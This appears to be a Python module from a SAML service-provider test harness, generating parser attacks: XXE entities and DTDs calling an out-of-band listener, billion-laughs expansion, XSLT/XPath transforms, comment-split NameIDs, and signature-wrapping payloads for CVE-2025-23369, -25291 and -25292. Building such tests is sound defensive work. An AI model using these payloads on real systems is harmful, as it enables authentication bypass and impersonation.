"""What an XML parser of an SP must refuse or read whole: DOCTYPEs, entities, external
resources, transforms, comments and processing instructions inside signed text, namespace
prefixes bound to other namespaces, and the parser-differential wrappings built on them.

The rows of the attack catalogue (docs: saml-sp-checks section 4) each mutator sends:

- X01 ``external-entity`` and ``external-dtd``: an external entity or DTD at ``url`` (the
  harness's out-of-band listener), which a strict SP never fetches.
- X02 ``entity-expansion``: nested internal entities ("billion laughs") in a few hundred bytes.
- X03 ``xslt-transform``: an XSLT ds:Transform whose stylesheet calls ``document(url)``.
- X04 ``xpath-transform`` and ``base64-transform``: a transform SAML Core 5.4.4 does not allow.
- X05 ``comment-in-name-id``: the IdP itself signs a NameID split by a comment, a processing
  instruction or a CDATA section; exclusive C14N drops comments, so the signature holds.
- X06 ``prefix-redeclared``: a look-alike assertion whose ``saml:``/``ds:`` prefixes are bound
  to other namespaces, placed before the real one.
- W09 ``xsw10``, W11 ``doctype-differential``, W12 ``namespace-differential``: the wrapping
  shapes of CVE-2025-23369, CVE-2025-25291 and CVE-2025-25292, as SAML Raider builds them.

A DOCTYPE exists only in the serialised message, so those rows act ``on_wire``; the IdP sends
the wire bytes. An EncryptedAssertion cannot carry a DOCTYPE of its own (XML Encryption
encrypts an element, not a document), so the entity payloads sit in the outer Response, in
the NameID when it is in clear and else in the Response's Issuer. The core does no IO: ``url``
is only written into the message; the out-of-band listener lives in ``harness.out_of_band``.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import re
from collections.abc import Callable

from lxml import etree

from ..xml import hardened_parser, to_bytes
from . import constants as c
from .mutation import (
    AssertionStep,
    Built,
    MutationContext,
    Mutator,
    MutatorParamError,
    Params,
    ResponseStep,
    int_param,
    str_param,
)

DEFAULT_OOB_URL = "http://oob.sso-harness.invalid/parser"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH_TRANSFORM = "http://www.w3.org/TR/1999/REC-xpath-19991116"
BASE64_TRANSFORM = "http://www.w3.org/2000/09/xmldsig#base64"
XSL = "http://www.w3.org/1999/XSL/Transform"
# Where a prefix-redeclared look-alike puts its elements: not SAML, not XML-DSig.
FOREIGN_SAML = "urn:sso-harness:not-saml:assertion"
FOREIGN_DS = "urn:sso-harness:not-xmldsig"

_NAME_ID_END = re.compile(rb"</(?:[A-Za-z_][\w.-]*:)?NameID>")
_ISSUER_END = re.compile(rb"</(?:[A-Za-z_][\w.-]*:)?Issuer>")
_ROOT_NAME = re.compile(rb"<([A-Za-z_][\w.:-]*)")
# Values carried from on_response to on_wire inside the message itself (mutators are pure).
_CARRY = re.compile(rb"<!--sso-harness-carry ([A-Za-z0-9+/=]*)-->")
_ENTITY_MARK = "sso-harness-entity-"


def _url(params: Params) -> str:
    url = str_param(params, "url", DEFAULT_OOB_URL)
    if not url or any(ch in url for ch in "\"'<>&\r\n\t ") or not url.isprintable():
        raise MutatorParamError("parameter 'url' must be a URL without quotes, spaces or <>&")
    return url


def _root_name(wire: bytes) -> bytes:
    found = _ROOT_NAME.search(wire)
    return found.group(1) if found else b"Response"


def _with_doctype(wire: bytes, declaration: bytes) -> bytes:
    """``wire`` behind a DOCTYPE; ``declaration`` is what follows the root's name."""
    if wire.lstrip().startswith(b"<!DOCTYPE"):
        raise MutatorParamError("the message already carries a DOCTYPE: one per document")
    return b"<!DOCTYPE " + _root_name(wire) + b" " + declaration + b">\n" + wire


def _reference_in_text(wire: bytes, reference: bytes) -> bytes:
    """``reference`` at the end of the NameID's text (or the Issuer's, when the NameID is
    encrypted), where an SP that expands it would read it."""
    for end in (_NAME_ID_END, _ISSUER_END):
        found = end.search(wire)
        if found is not None:
            return wire[: found.start()] + reference + wire[found.start() :]
    return wire


def _external_entity(wire: bytes, params: Params, ctx: MutationContext) -> bytes:
    url = _url(params).encode()
    declared = _with_doctype(wire, b'[<!ENTITY oob SYSTEM "' + url + b'">]')
    return _reference_in_text(declared, b"&oob;")


def _external_dtd(wire: bytes, params: Params, ctx: MutationContext) -> bytes:
    return _with_doctype(wire, b'SYSTEM "' + _url(params).encode() + b'"')


def _entity_expansion(wire: bytes, params: Params, ctx: MutationContext) -> bytes:
    levels = int_param(params, "levels", 10)
    width = int_param(params, "width", 10)
    if not 1 <= levels <= 30 or not 2 <= width <= 30:
        raise MutatorParamError("'levels' must be 1..30 and 'width' 2..30")
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        body = f"&lol{level - 1};".encode() * width
        entities.append(b'<!ENTITY lol%d "%s">' % (level, body))
    declared = _with_doctype(wire, b"[" + b"".join(entities) + b"]")
    return _reference_in_text(declared, f"&lol{levels};".encode())


# ---------------------------------------------------------------- transforms (X03, X04)


def _own_signature(element: etree._Element) -> etree._Element | None:
    return element.find(c.q(c.DS, "Signature"))


def _add_transform(signature: etree._Element | None, transform: etree._Element) -> None:
    """``transform`` first among the Reference's transforms (it runs before the others)."""
    if signature is None:
        return
    transforms = signature.find(
        f"{c.q(c.DS, 'SignedInfo')}/{c.q(c.DS, 'Reference')}/{c.q(c.DS, 'Transforms')}"
    )
    if transforms is not None:
        transforms.insert(0, transform)


def _xslt(params: Params) -> etree._Element:
    transform = etree.Element(c.q(c.DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    stylesheet = etree.SubElement(transform, f"{{{XSL}}}stylesheet", nsmap={"xsl": XSL})
    stylesheet.set("version", "1.0")
    template = etree.SubElement(stylesheet, f"{{{XSL}}}template", match="/")
    etree.SubElement(template, f"{{{XSL}}}copy-of", select=f"document('{_url(params)}')")
    return transform


def _xpath(params: Params) -> etree._Element:
    # A filter that leaves the Subject out of the digest: what it signs is not what is read.
    transform = etree.Element(c.q(c.DS, "Transform"), Algorithm=XPATH_TRANSFORM)
    xpath = etree.SubElement(transform, c.q(c.DS, "XPath"), nsmap={"saml": c.SAML})
    xpath.text = str_param(params, "xpath", "not(ancestor-or-self::saml:Subject)")
    return transform


def _base64(params: Params) -> etree._Element:
    return etree.Element(c.q(c.DS, "Transform"), Algorithm=BASE64_TRANSFORM)


TransformMaker = Callable[[Params], etree._Element]


def _in_assertion_signature(make: TransformMaker) -> AssertionStep:
    def step(assertion: etree._Element, params: Params, ctx: MutationContext) -> etree._Element:
        # Before encryption: an EncryptedAssertion carries the transform inside.
        _add_transform(_own_signature(assertion), make(params))
        return assertion

    return step


def _in_response_signature(make: TransformMaker) -> ResponseStep:
    def step(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
        # Only when the assertion has no signature of its own to carry it.
        if built.assertion is None or _own_signature(built.assertion) is None:
            _add_transform(_own_signature(built.response), make(params))
        return built.response

    return step


# ---------------------------------------------------------------- signed text (X05)

_KINDS = ("comment", "pi", "cdata")


def _split(value: str, params: Params) -> int:
    """Where the marker goes: ``split`` characters in, by default before the last two labels
    of the domain (``admin@example.com`` | ``.evil.example``): the attacker's own domain."""
    last = value.rfind(".")
    default = value.rfind(".", 0, last) if last > 0 else -1
    split = int_param(params, "split", default)
    if not 0 < split < len(value):
        raise MutatorParamError("parameter 'split' must fall inside 'value' (give it explicitly)")
    return split


def _cdata_name_id(name_id: etree._Element, head: str, tail: str) -> etree._Element:
    if "]]>" in tail:
        raise MutatorParamError("a CDATA section cannot hold ']]>'")
    prefix = name_id.prefix
    tag = f"{prefix}:NameID" if prefix else "NameID"
    declaration = f'xmlns:{prefix}="{c.SAML}"' if prefix else f'xmlns="{c.SAML}"'
    escaped = head.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    source = f"<{tag} {declaration}>{escaped}<![CDATA[{tail}]]></{tag}>"
    parser = etree.XMLParser(strip_cdata=False, resolve_entities=False, no_network=True)
    rebuilt = etree.fromstring(source.encode("utf-8"), parser=parser)  # our own text
    for name, attribute in name_id.attrib.items():
        rebuilt.set(name, attribute)
    return rebuilt


def _comment_in_name_id(
    assertion: etree._Element, params: Params, ctx: MutationContext
) -> etree._Element:
    # on_content: the IdP signs this NameID, so the signature vouches for the whole string.
    value = str_param(params, "value", "admin@example.com.evil.example")
    kind = str_param(params, "kind", "comment")
    if kind not in _KINDS:
        raise MutatorParamError("parameter 'kind' must be comment, pi or cdata")
    split = _split(value, params)
    head, tail = value[:split], value[split:]
    name_id = assertion.find(f"{c.q(c.SAML, 'Subject')}/{c.q(c.SAML, 'NameID')}")
    if name_id is None:
        return assertion
    if kind == "cdata":
        name_id.getparent().replace(name_id, _cdata_name_id(name_id, head, tail))  # type: ignore[union-attr]
        return assertion
    for child in list(name_id):
        name_id.remove(child)
    name_id.text = head
    marker = etree.Comment("") if kind == "comment" else etree.ProcessingInstruction("split")
    marker.tail = tail
    name_id.append(marker)
    return assertion


# ---------------------------------------------------------------- namespaces (X06)

_DECLARATION = re.compile(r'xmlns(?::[A-Za-z_][\w.-]*)?="(?P<uri>[^"]*)"')


def _redeclared(element: etree._Element) -> etree._Element:
    """A copy of ``element`` whose SAML and XML-DSig prefixes name foreign namespaces."""
    foreign = {c.SAML: FOREIGN_SAML, c.DS: FOREIGN_DS}

    def swap(match: re.Match[str]) -> str:
        uri = match.group("uri")
        return match.group(0).replace(f'"{uri}"', f'"{foreign.get(uri, uri)}"')

    text = _DECLARATION.sub(swap, etree.tostring(element, encoding="unicode"))
    return etree.fromstring(text.encode("utf-8"), parser=hardened_parser())


def _payload(response: etree._Element) -> etree._Element | None:
    for tag in ("Assertion", "EncryptedAssertion"):
        found = response.find(c.q(c.SAML, tag))
        if found is not None:
            return found
    return None


def _with_name_id(assertion: etree._Element, value: str) -> etree._Element:
    edited = copy.deepcopy(assertion)
    for name_id in edited.iter(c.q(c.SAML, "NameID")):
        for child in list(name_id):
            name_id.remove(child)
        name_id.text = value
    return edited


def _prefix_redeclared(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    payload = _payload(built.response)
    if built.assertion is None or payload is None:
        return built.response
    lookalike = _with_name_id(built.assertion, str_param(params, "value", "admin@example.com"))
    lookalike.set("ID", f"{lookalike.get('ID')}-lookalike")
    payload.addprevious(_redeclared(lookalike))
    return built.response


# ---------------------------------------------------------------- wrapping (W09, W11, W12)


def _carry(root: etree._Element, value: bytes) -> None:
    root.append(etree.Comment(f"sso-harness-carry {base64.b64encode(value).decode()}"))


def _carried(wire: bytes) -> tuple[bytes, bytes | None]:
    """``wire`` without the value carried from on_response, and that value."""
    found = _CARRY.search(wire)
    if found is None:
        return wire, None
    return wire[: found.start()] + wire[found.end() :], base64.b64decode(found.group(1))


def _in_clear(built: Built, assertion: etree._Element) -> etree._Element | None:
    """The Response's payload replaced by ``assertion`` in clear (the wrapping shapes need the
    assertion readable next to their copies); None when it carries no assertion."""
    payload = _payload(built.response)
    if payload is None:
        return None
    payload.getparent().replace(payload, assertion)  # type: ignore[union-attr]
    return built.response


def _xsw10(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    if built.assertion is None or (signature := _own_signature(built.assertion)) is None:
        return built.response
    original_id = built.assertion.get("ID", "")
    evil = _with_name_id(built.assertion, str_param(params, "value", "admin@example.com"))
    evil.remove(evil.find(c.q(c.DS, "Signature")))  # type: ignore[arg-type]
    evil.set("ID", f"{original_id}ffff")
    response = _in_clear(built, evil)
    if response is None:
        return built.response
    if (own := _own_signature(response)) is not None:
        response.remove(own)
    moved = copy.deepcopy(signature)
    holder = etree.SubElement(moved, c.q(c.DS, "Object"))
    signed_copy = copy.deepcopy(built.assertion)
    signed_copy.set("ID", f"{_ENTITY_MARK}BypassIDUniqueness{original_id}")
    holder.append(signed_copy)
    issuer = response.find(c.q(c.SAML, "Issuer"))
    if issuer is not None:
        issuer.addnext(moved)
    else:
        response.insert(0, moved)
    response.set("ID", f"{_ENTITY_MARK}idViaEntity")
    return response


_BYPASS = re.compile(rb"sso-harness-entity-BypassIDUniqueness([^\"]*)\"")


def _xsw10_wire(wire: bytes, params: Params, ctx: MutationContext) -> bytes:
    found = _BYPASS.search(wire)
    if found is None:
        return wire
    entities = (
        b'[<!ENTITY idViaEntity "' + found.group(1) + b'"><!ENTITY BypassIDUniqueness "&#x50;">]'
    )
    wire = wire.replace(_ENTITY_MARK.encode() + b"idViaEntity", b"&idViaEntity;")
    wire = wire.replace(_ENTITY_MARK.encode() + b"BypassIDUniqueness", b"&BypassIDUniqueness;")
    return _with_doctype(wire, entities)


def _doctype_differential(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    if built.assertion is None:
        return built.response
    original = to_bytes(built.response)
    attacker = copy.deepcopy(built.response)
    evil = _with_name_id(built.assertion, str_param(params, "value", "admin@example.com"))
    wrapped = _in_clear(Built(attacker, built.assertion, built.seal), evil)
    if wrapped is None:
        return built.response
    _carry(wrapped, original)
    return wrapped


def _doctype_differential_wire(wire: bytes, params: Params, ctx: MutationContext) -> bytes:
    attacker, original = _carried(wire)
    if original is None:
        return wire
    end_tag = b"</" + _root_name(attacker) + b">"
    if not (attacker.rstrip().endswith(end_tag) and original.rstrip().endswith(end_tag)):
        raise MutatorParamError("doctype-differential needs a Response with an end tag")
    head = attacker.rstrip()[: -len(end_tag)]
    inner = original.rstrip()[: -len(end_tag)]
    # A conforming parser reads the SYSTEM literal 'x"><!--' whole and sees the attacker's
    # Response with the original as CDATA text; a parser that ends the literal at the double
    # quote opens a comment there, sees the original (signed) Response, and comments out the rest.
    return (
        b"<!DOCTYPE "
        + _root_name(attacker)
        + b" SYSTEM 'x\"><!--'>\n"
        + head
        + b"<![CDATA[-->\n"
        + inner
        + b"<!--]]>-->"  # no white space: it would be text inside the signed original
        + end_tag
    )


def _empty_digest(signature: etree._Element) -> str:
    method = signature.find(f".//{c.q(c.DS, 'DigestMethod')}")
    uri = method.get("Algorithm", "") if method is not None else ""
    name = uri.rsplit("#", 1)[-1]
    algorithm = name if name in ("sha1", "sha256", "sha512") else "sha256"
    return base64.b64encode(hashlib.new(algorithm).digest()).decode("ascii")


def _namespace_differential(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    if built.assertion is None:
        return built.response
    source = _own_signature(built.assertion)
    if source is None:
        source = _own_signature(built.response)
    if source is None:
        return built.response
    evil = _with_name_id(built.assertion, str_param(params, "value", "admin@example.com"))
    response = _in_clear(built, evil)
    if response is None:
        return built.response
    for holder in (response, evil):
        if (own := _own_signature(holder)) is not None:
            holder.remove(own)
    # An assertion signature whose digest is that of nothing, after the Issuer.
    stub = copy.deepcopy(source)
    for digest in stub.iter(c.q(c.DS, "DigestValue")):
        digest.text = _empty_digest(source)
    issuer = evil.find(c.q(c.SAML, "Issuer"))
    (issuer.addnext if issuer is not None else evil.append)(stub)
    # The real signature, un-namespaced, in StatusDetail: only a parser applying the DTD's
    # #FIXED default xmlns puts it back into XML-DSig.
    status = response.find(c.q(c.SAMLP, "Status"))
    if status is not None:
        detail = etree.SubElement(status, c.q(c.SAMLP, "StatusDetail"))
        bare = etree.SubElement(detail, "Signature")
        for child in source:
            bare.append(copy.deepcopy(child))
    if _own_signature(built.assertion) is None:
        reference = source.find(f".//{c.q(c.DS, 'Reference')}")
        target = (reference.get("URI", "") if reference is not None else "").lstrip("#")
        evil.set("ID", target)
        response.set("ID", f"{target}ffff")
    return response


def _namespace_differential_wire(wire: bytes, params: Params, ctx: MutationContext) -> bytes:
    attlist = (
        b'[<!ATTLIST Signature xmlns CDATA #FIXED "' + c.DS.encode() + b'" xmlns CDATA "block">]'
    )
    return _with_doctype(wire, attlist)


PARSER_MUTATORS: tuple[Mutator, ...] = (
    Mutator(
        "external-entity",
        "SDP-G03",
        "X01: a DOCTYPE declaring an external entity at `url`, referenced in the NameID "
        "(the Issuer when the assertion is encrypted)",
        on_wire=_external_entity,
    ),
    Mutator(
        "external-dtd",
        "IIP-G03",
        "X01: an external DTD at `url` (<!DOCTYPE Response SYSTEM url>)",
        on_wire=_external_dtd,
    ),
    Mutator(
        "entity-expansion",
        "SDP-G03",
        "X02: `levels` of internal entities each `width` times the one below (default 10x10, "
        "billion laughs), referenced in the NameID; a few hundred bytes sent",
        on_wire=_entity_expansion,
    ),
    Mutator(
        "xslt-transform",
        "SAML-CORE-5.4.4",
        "X03: an XSLT ds:Transform whose stylesheet calls document(`url`); in the Assertion's "
        "signature (before encryption), else the Response's",
        on_assertion=_in_assertion_signature(_xslt),
        on_response=_in_response_signature(_xslt),
    ),
    Mutator(
        "xpath-transform",
        "SAML-CORE-5.4.4",
        "X04: an XPath filter ds:Transform (`xpath`, default: leave the Subject out)",
        on_assertion=_in_assertion_signature(_xpath),
        on_response=_in_response_signature(_xpath),
    ),
    Mutator(
        "base64-transform",
        "SAML-CORE-5.4.4",
        "X04: a Base64 ds:Transform in the Reference",
        on_assertion=_in_assertion_signature(_base64),
        on_response=_in_response_signature(_base64),
    ),
    Mutator(
        "comment-in-name-id",
        "XMLDSIG-8.1.3",
        "X05: the IdP signs the NameID `value` split at `split` by a `kind` (comment, pi, "
        "cdata); the identity is the whole string, never the part before the split",
        on_content=_comment_in_name_id,
    ),
    Mutator(
        "prefix-redeclared",
        "SAML-CORE-1.2",
        "X06: before the assertion, a look-alike naming `value` whose saml:/ds: prefixes are "
        "bound to other namespaces",
        on_response=_prefix_redeclared,
    ),
    Mutator(
        "xsw10",
        "SDP-G03",
        "W09 (CVE-2025-23369): the Assertion's signature moved into the Response with a "
        "ds:Object copy of the signed Assertion; the edited Assertion (`value`) in clear; "
        "IDs through DTD entities",
        on_response=_xsw10,
        on_wire=_xsw10_wire,
    ),
    Mutator(
        "doctype-differential",
        "SDP-G03",
        "W11 (CVE-2025-25291): a DOCTYPE/comment/CDATA wrapper: conforming parsers see the "
        "edited Response (`value`), lax ones the signed original",
        on_response=_doctype_differential,
        on_wire=_doctype_differential_wire,
    ),
    Mutator(
        "namespace-differential",
        "SDP-G03",
        "W12 (CVE-2025-25292): the signature un-namespaced in StatusDetail, put back into "
        "XML-DSig only by an ATTLIST default xmlns; the edited Assertion (`value`) in clear",
        on_response=_namespace_differential,
        on_wire=_namespace_differential_wire,
    ),
)
